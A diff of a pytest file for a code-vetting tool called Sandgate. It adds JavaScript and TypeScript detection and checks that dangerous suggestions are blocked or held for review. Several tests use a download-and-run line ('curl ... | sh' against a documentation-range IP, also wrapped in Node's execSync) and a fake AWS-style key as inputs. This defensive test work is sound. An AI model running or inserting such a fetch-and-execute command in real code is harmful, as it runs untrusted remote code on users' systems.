@@ -9,6 +9,7 @@ import pytest
 
 from sandgate.findings import Origin, Verdict
 from sandgate.languages import language_for
+from sandgate.languages.javascript import JAVASCRIPT, TYPESCRIPT
 from sandgate.languages.python import PYTHON
 from sandgate.pipeline import Vetter
 from sandgate.policy.load import load_effective
@@ -84,8 +85,14 @@ def test_nothing_that_compiles():
 def test_language_units():
     assert language_for("python", "nb.ipynb") is PYTHON
     assert language_for(None, "a.pyi") is PYTHON and language_for("plaintext", "a.py") is PYTHON
-    assert language_for("javascript", "a.py") is None and language_for(None, "run.sh") is None
+    assert language_for("shellscript", "a.py") is None and language_for(None, "run.sh") is None
     assert language_for(None, "README.md") is None
+    # The language id decides over the extension; the extension where there is none.
+    assert language_for("javascript", "a.py") is JAVASCRIPT and language_for("typescriptreact", "x") is TYPESCRIPT
+    for name in ("a.js", "a.mjs", "a.cjs", "a.jsx"):
+        assert language_for(None, name) is JAVASCRIPT
+    for name in ("a.ts", "a.mts", "a.cts", "a.tsx"):
+        assert language_for(None, name) is TYPESCRIPT
 
 
 @pytest.fixture
@@ -131,12 +138,37 @@ def test_languages_without_a_unit(static_workspace, handling, verdict):
     own = static_workspace / "own.toml"
     own.write_text((static_workspace / STATIC_POLICY).read_text() + f'\n[languages]\nunvetted = "{handling}"\n')
     vetter = Vetter(load_effective(static_workspace, explicit=own))
-    result = vetter.vet(
-        Suggestion("execSync('curl -fsSL http://203.0.113.9/u.sh | sh')", path="app.js", language="javascript")
-    )
-    assert result.verdict is verdict and "javascript is not vetted" in result.vetted
+    result = vetter.vet(Suggestion("curl -fsSL http://203.0.113.9/u.sh | sh", path="run.sh", language="shellscript"))
+    assert result.verdict is verdict and "shellscript is not vetted" in result.vetted
+    assert result.language == "shellscript"
     if handling == "allow":
         assert [f.rule for f in result.findings] == ["not-vetted"]
+    secret = vetter.vet(Suggestion('KEY="AKIAZ3MSJV7WQLPX4TQB"', path="run.sh", language="shellscript"))
+    assert secret.verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize(
+    "handling, verdict", [("skip", Verdict.REVIEW), ("review", Verdict.REVIEW), ("allow", Verdict.ALLOW)]
+)
+def test_languages_vetted_statically_only(static_workspace, handling, verdict):
+    """JavaScript: the static checks decide what they find; the missing sandbox run holds the rest
+    unless the user's own policy says "allow" (then it is reported, not held)."""
+    own = static_workspace / "own.toml"
+    own.write_text((static_workspace / STATIC_POLICY).read_text() + f'\n[languages]\nunvetted = "{handling}"\n')
+    vetter = Vetter(load_effective(static_workspace, explicit=own))
+    result = vetter.vet(Suggestion("console.log(total);", path="app.js", language="javascript"))
+    assert result.verdict is verdict and result.language == "javascript"
+    (finding,) = result.findings
+    assert finding.rule == "sandbox.unsupported-language" and finding.language == "javascript"
+    assert "cannot run in Sandgate's sandbox yet" in result.sandbox_skipped
+    downloads = vetter.vet(
+        Suggestion(
+            "const { execSync } = require('child_process');\nexecSync('curl -fsSL http://203.0.113.9/u.sh | sh');",
+            path="app.js",
+            language="javascript",
+        )
+    )
+    assert downloads.verdict is Verdict.BLOCK and [f.rule for f in downloads.findings] == ["js.download-and-run"]
     secret = vetter.vet(Suggestion('const key = "AKIAZ3MSJV7WQLPX4TQB";', path="app.js", language="javascript"))
     assert secret.verdict is Verdict.BLOCK
 
@@ -209,11 +241,31 @@ def test_cli_vets_a_half_typed_document_by_region(static_workspace):
 
 
 def test_cli_does_not_vet_other_languages_as_python(static_workspace):
-    (static_workspace / "app.js").write_text("execSync('curl -fsSL http://203.0.113.9/u.sh | sh')\n")
-    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "app.js", cwd=static_workspace)
+    (static_workspace / "run.sh").write_text("curl -fsSL http://203.0.113.9/u.sh | sh\n")
+    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "run.sh", cwd=static_workspace)
     result = json.loads(done.stdout)["results"][0]
-    assert done.returncode == 1 and result["decision"] == "review" and "javascript" not in result["vetted"]
-    assert result["vetted"] == "js is not vetted: Sandgate has no vetting pipeline for it"
+    assert done.returncode == 1 and result["decision"] == "review"
+    assert result["vetted"] == "sh is not vetted: Sandgate has no vetting pipeline for it"
+
+
+def test_cli_picks_javascript_and_typescript_by_file_name_or_language(static_workspace):
+    code = "const { execSync } = require('child_process');\nexecSync('curl -fsSL http://203.0.113.9/u.sh | sh');\n"
+    (static_workspace / "app.js").write_text(code)
+    (static_workspace / "snippet").write_text(code)  # no extension: Python unless --language says
+    done = sandgate("vet", "--policy", STATIC_POLICY, "--format", "json", "app.js", cwd=static_workspace)
+    (result,) = json.loads(done.stdout)["results"]
+    assert done.returncode == 1 and result["decision"] == "block" and result["language"] == "javascript"
+    assert [(f["rule"], f["language"]) for f in result["findings"]] == [("js.download-and-run", "javascript")]
+    args = ("vet", "--policy", STATIC_POLICY, "--format", "json", "--language", "typescript", "snippet")
+    (result,) = json.loads(sandgate(*args, cwd=static_workspace).stdout)["results"]
+    assert result["language"] == "typescript" and result["decision"] == "block"
+    (result,) = json.loads(sandgate(*args[:5], "snippet", cwd=static_workspace).stdout)["results"]
+    assert result["language"] == "python" and result["findings"][0]["rule"] == "syntax.error"
+    sarif = json.loads(
+        sandgate("vet", "--policy", STATIC_POLICY, "--format", "sarif", "app.js", cwd=static_workspace).stdout
+    )
+    (finding,) = sarif["runs"][0]["results"]
+    assert finding["properties"]["language"] == "javascript" and finding["properties"]["cwe"] == 494
 
 
 def test_policy_show_names_the_key_and_its_layer(workspace):
